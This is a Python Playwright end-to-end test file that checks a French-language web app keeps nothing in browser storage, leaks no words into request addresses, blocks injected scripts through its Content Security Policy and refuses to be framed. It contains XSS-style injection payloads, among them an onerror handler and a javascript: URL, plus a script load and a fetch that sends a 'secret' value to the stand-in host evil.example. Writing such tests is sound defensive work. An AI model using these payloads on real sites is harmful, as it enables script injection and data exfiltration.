"""What a real browser does with our pages: what it keeps, what it asks for, what it lets run (R160, R161; ASVS 5.0 §3.4, §14.2, §14.3)."""

from collections.abc import Collection
from urllib.parse import unquote, urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request, expect

from tests.e2e.conftest import OpenPage, Site
from tests.e2e.people import come_in, go_out

PEOPLE = ("Jeanne D.", "Camille P.", "Hélène V.", "Léo A.", "Jeune A")
STORED = """async () => JSON.stringify({
  local: {...localStorage}, session: {...sessionStorage}, databases: await indexedDB.databases(), caches: await caches.keys(),
  name: window.name, cookie: document.cookie, history: history.state,
  workers: (await navigator.serviceWorker?.getRegistrations() ?? []).length,
})"""
NOTHING = '{"local":{},"session":{},"databases":[],"caches":[],"name":"","cookie":"","history":null,"workers":0}'
_LINKS = "[...document.querySelectorAll('a[href]')].map((link) => link.href)"
_PAGES_AT_MOST = 40


def test_a_walk_through_every_page_leaves_nothing_in_the_browser_and_no_word_in_an_address(site: Site, open_page: OpenPage) -> None:
    page = open_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(_said_by(request)))
    walked = 0
    for name in PEOPLE:
        come_in(page, name)
        walked += _walk(page, site.address)
        go_out(page)
        assert page.context.cookies() == []
    assert walked > 40
    assert {urlsplit(address.partition(" ")[0]).netloc for address in asked} == {urlsplit(site.address).netloc}
    assert [word for word in site.told if any(word in unquote(address) for address in asked)] == []


def _said_by(request: Request) -> str:
    return f"{request.url} {request.headers.get('referer', '')}"


def _walk(page: Page, address: str) -> int:
    """Follow every link of ours; on each page the browser has kept nothing, and the way out is in sight."""
    waiting, known = ["/"], {"/"}
    while waiting and len(known) < _PAGES_AT_MOST:
        answer = page.goto(waiting.pop(0))
        if answer is None or not answer.headers.get("content-type", "").startswith("text/html"):
            continue
        assert page.evaluate(STORED) == NOTHING
        expect(page.get_by_role("button", name="Quitter")).to_be_visible()
        found = _ours(page.evaluate(_LINKS), address) - known
        known |= found
        waiting += sorted(found)
    return len(known)


def _ours(links: Collection[str], address: str) -> set[str]:
    paths = (urlsplit(link)._replace(fragment="").geturl().removeprefix(address) for link in links if link.startswith(f"{address}/"))
    return {path for path in paths if not path.endswith((".csv", ".json", ".pdf", ".txt", ".tar", ".zip", ".bin"))}


_SCRIPT = "const s = document.createElement('script');"
SLIPPED_IN = {
    "a script in the page": f"{_SCRIPT} s.textContent = 'window.caught = 1'; document.body.append(s)",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.caught = 1\">')",
    "an address that runs": "location.href = 'javascript:window.caught = 1'",
    "a script of another site": f"{_SCRIPT} s.src = 'https://evil.example/x.js'; document.body.append(s)",
    "a script in data": f"{_SCRIPT} s.src = 'data:text/javascript,window.caught=1'; document.body.append(s)",
}


def test_a_script_that_somebody_slipped_into_a_page_does_not_run(site: Site, browser: Browser) -> None:
    context = browser.new_context(base_url=site.address)  # The complaints of the browser are what is wanted here.
    page = context.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    come_in(page, "Jeanne D.")
    for name, script in SLIPPED_IN.items():
        refused.clear()
        page.evaluate(f"() => {{ {script} }}")
        page.wait_for_timeout(300)
        assert page.evaluate("window.caught") is None, name
        assert any("Content Security Policy" in text for text in refused), name
    assert page.evaluate("fetch('https://evil.example/?q=secret').then(() => 'sent', () => 'refused')") == "refused"
    context.close()


@pytest.mark.parametrize("element", ["iframe", "object", "embed"])
def test_no_other_page_frames_ours(site: Site, browser: Browser, element: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    source = "data" if element == "object" else "src"
    page.set_content(f'<{element} {source}="{site.address}/a-propos" width="600" height="400"></{element}>')
    page.wait_for_timeout(700)
    for frame in page.frames[1:]:
        assert "Sillage" not in frame.content()
    context.close()
